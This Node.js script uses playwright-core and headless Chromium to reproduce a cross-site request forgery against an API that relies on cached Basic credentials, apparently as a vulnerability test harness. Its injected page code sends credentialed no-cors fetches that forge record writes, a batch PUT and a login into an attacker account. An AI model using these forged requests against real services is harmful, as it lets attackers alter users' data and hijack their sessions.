// Drives Debian's Chromium with playwright-core: the browser caches Basic
// credentials for the app's origin, then a same-site page (same host,
// another port) sends bodies without a Content-Type with them.
// usage: node basic-csrf.js APP_ORIGIN SAME_SITE_ORIGIN USER PASSWORD
// Prints a JSON report on the last line.
const { chromium } = require("playwright-core");

(async () => {
  const [app, evil, user, password] = process.argv.slice(2);
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
      "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
  const report = {};
  try {
    const context = await browser.newContext({ httpCredentials: { username: user, password } });
    context.setDefaultTimeout(20000);
    const page = await context.newPage();
    page.on("console", (m) => console.error("page: " + m.text()));
    // The user visits the API once: the browser now holds the credentials.
    const visit = await page.goto(app + "/v1/buckets/b/collections/c/records");
    report.visit = visit.status();
    await page.goto(evil + "/evil.html");
    report.attack = await page.evaluate(async (target) => {
      const out = {};
      const batch = JSON.stringify({ requests: [{ method: "PUT", path: "/buckets/b/collections/c/records/stolen",
        body: { data: { from: "same-site page" } } }] });
      await fetch(target + "/v1/batch", { method: "POST", mode: "no-cors", credentials: "include", body: new Blob([batch]) });
      out.batch = "sent";
      await fetch(target + "/v1/buckets/b/collections/c/records", { method: "POST", mode: "no-cors", credentials: "include",
        body: new Blob([JSON.stringify({ data: { from: "same-site page" } })]) });
      out.post = "sent";
      // Login CSRF: sign the browser into the attacker's account.
      await fetch(target + "/v1/account/session", { method: "POST", mode: "no-cors", credentials: "include",
        body: new Blob([JSON.stringify({ data: { username: "mallory", password: "mallory-pw" } })]) });
      out.login = "sent";
      return out;
    }, app);
    report.cookies = (await context.cookies(app)).map((c) => c.name);
  } finally {
    await browser.close();
  }
  console.log(JSON.stringify(report));
})().catch((e) => { console.error(e); process.exit(1); });
